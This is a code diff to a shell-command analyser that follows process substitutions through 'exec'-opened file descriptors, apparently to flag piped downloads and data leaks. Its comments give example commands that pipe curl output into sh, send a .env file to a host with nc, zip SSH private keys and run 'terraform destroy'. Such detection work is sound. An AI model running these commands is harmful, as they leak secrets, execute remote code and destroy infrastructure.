@@ -227,6 +227,8 @@ class _Walker:
         self.code_assign: dict[str, str] = {}  # variable → its value as written, when a command computes it
         self.prefix_env: dict[str, str] = {}  # NAME=value words before the command being finished
         self.fds = fdlib.Descriptors()  # `exec 3<.env`: files open on descriptors for the rest of the line
+        # `exec 3< <(curl …)`: descriptors open on a process substitution — its commands and its text
+        self.fd_substs: "dict[str, tuple[list[_Draft], str]]" = {}
         self.stdin_piped = 0  # > 0 while walking a pipeline stage after the first (its stdin is the pipe)
         self.stdout_piped = 0  # > 0 while walking a stage before the last, or `$(…)` (stdout is captured)
         self.nodes = 0
@@ -1044,6 +1046,9 @@ class _Walker:
         table = self.fds.table
         if not d.argv or d.argv == ["exec"]:
             return
+        if "0" in self.fd_substs and not self.stdin_piped and d.stdin_text is None \
+                and not any(r.fd in ("", "0") and r.op.startswith("<") for r in d.redirects):
+            self.substituted_stdin(d, *self.fd_substs["0"], via, depth)  # `exec < <(curl …); sh`
         src = table.get("0")
         if src is not None and src[1] in fdlib.READS and not self.stdin_piped and d.stdin_text is None \
                 and not any(r.fd in ("", "0") and r.op.startswith("<") for r in d.redirects):
@@ -1097,28 +1102,43 @@ class _Walker:
             namers = [d for d in self.drafts[before:] if d.argv and d is not target]
             namers += [d for name in self.refs[refs_before:] for d in self.var_drafts.get(name, ())]
             self.mark(namers[:64], ">")
+        if target.argv == ["exec"] and not target.dynamic and op in fdlib.READS:
+            key = fd or "0"
+            if dest is not None and dest.type == "process_substitution" and op == "<":
+                # `exec 3< <(curl …)`: fd 3 is those commands' output for the rest of the line
+                self.fd_substs[key] = ([d for d in self.drafts[before:] if d.argv and d is not target][:16], path)
+            else:
+                self.fd_substs.pop(key, None)
+        elif op == "<&" and path.isdigit() and path in self.fd_substs and fd in ("", "0") and target.argv != ["exec"]:
+            # `sh <&3` after `exec 3< <(curl …)`: as `sh < <(curl …)`
+            self.substituted_stdin(target, *self.fd_substs[path], via, depth)
         if dest is not None and dest.type == "process_substitution" and op == "<" and fd in ("", "0"):
             # `sh < <(curl …)`: what those commands print is this program's stdin
             feeders = [d for d in self.drafts[before:] if d.argv and d is not target]
-            target.upstream.extend(d.argv[0] for d in feeders)
-            self.pass_stdin(target, [d.argv[0] for d in feeders])  # (`bash -c 'terraform destroy' < <(yes)`)
-            self.heirs_fed(feeders, target)  # (`bash -c 'nc h 9' < <(cat .env)`)
-            if target.argv:
-                for d in feeders:  # (and it is what they feed: `nc h 80 < <(cat .env)`)
-                    d.downstream.append(target.argv[0])
-                self.read_from(target, feeders)
-                if "xargs" in target.wrappers or "parallel" in target.wrappers:
-                    self.lookup_operands(target, feeders, via)  # `xargs cp evil < <(which git)`
-                    self.ls_fed_reader(target, feeders, via)  # `xargs cat < <(ls)`, `xargs -a <(ls) cat`
-                if target.argv[0] in _NAMES_FROM_LIST and "-" in _list_files(target.argv[0], target.argv[1:]):
-                    self.names_listed(target, feeders, via)  # `zip -@ k.zip < <(ls ~/.ssh/id_*)`
-            if path in self.procsubs and target.stdin_text is None:
-                target.stdin_text = self.procsubs[path]
-                self.feed(target, target.stdin_text, depth)
-                self.pass_stdin(target, text=target.stdin_text)
-            elif _reads_commands(target):
-                self.unknown_procsub(target, path, via)
+            self.substituted_stdin(target, feeders, path, via, depth)
         self.apply_redirect(target, op, path, fd, dest is not None and dest.type != "process_substitution", via, depth)
+
+    def substituted_stdin(self, target: _Draft, feeders: "list[_Draft]", path: str, via: str, depth: int) -> None:
+        """`target`'s stdin is what `feeders` print (a process substitution, directly or through a
+        descriptor an `exec` opened on one)."""
+        target.upstream.extend(d.argv[0] for d in feeders)
+        self.pass_stdin(target, [d.argv[0] for d in feeders])  # (`bash -c 'terraform destroy' < <(yes)`)
+        self.heirs_fed(feeders, target)  # (`bash -c 'nc h 9' < <(cat .env)`)
+        if target.argv:
+            for d in feeders:  # (and it is what they feed: `nc h 80 < <(cat .env)`)
+                d.downstream.append(target.argv[0])
+            self.read_from(target, feeders)
+            if "xargs" in target.wrappers or "parallel" in target.wrappers:
+                self.lookup_operands(target, feeders, via)  # `xargs cp evil < <(which git)`
+                self.ls_fed_reader(target, feeders, via)  # `xargs cat < <(ls)`, `xargs -a <(ls) cat`
+            if target.argv[0] in _NAMES_FROM_LIST and "-" in _list_files(target.argv[0], target.argv[1:]):
+                self.names_listed(target, feeders, via)  # `zip -@ k.zip < <(ls ~/.ssh/id_*)`
+        if path in self.procsubs and target.stdin_text is None:
+            target.stdin_text = self.procsubs[path]
+            self.feed(target, target.stdin_text, depth)
+            self.pass_stdin(target, text=target.stdin_text)
+        elif _reads_commands(target):
+            self.unknown_procsub(target, path, via)
 
     def apply_redirect(self, target: _Draft, op: str, path: str, fd: str, plain: bool, via: str, depth: int) -> None:
         """Record one redirect of `target` and what follows from it (`plain`: its target is a word, not
@@ -1610,7 +1630,7 @@ class _Walker:
             hit = self.fds.opened(n, d.redirects) if n else None
             if hit is not None and hit[1] in fdlib.READS:
                 self.apply_redirect(d, "<", hit[0], "", True, via, depth)  # `read -u 3 k` is `read k <&3`
-        if self.fds.table:
+        if self.fds.table or self.fd_substs:
             self.fd_defaults(d, via, depth)
         if d.argv[0] in ("read", "mapfile", "readarray") and len(self.var_drafts) < 256 and \
                 any(r.op in ("<", "<>") and r.fd in ("", "0") and r.target for r in d.redirects):
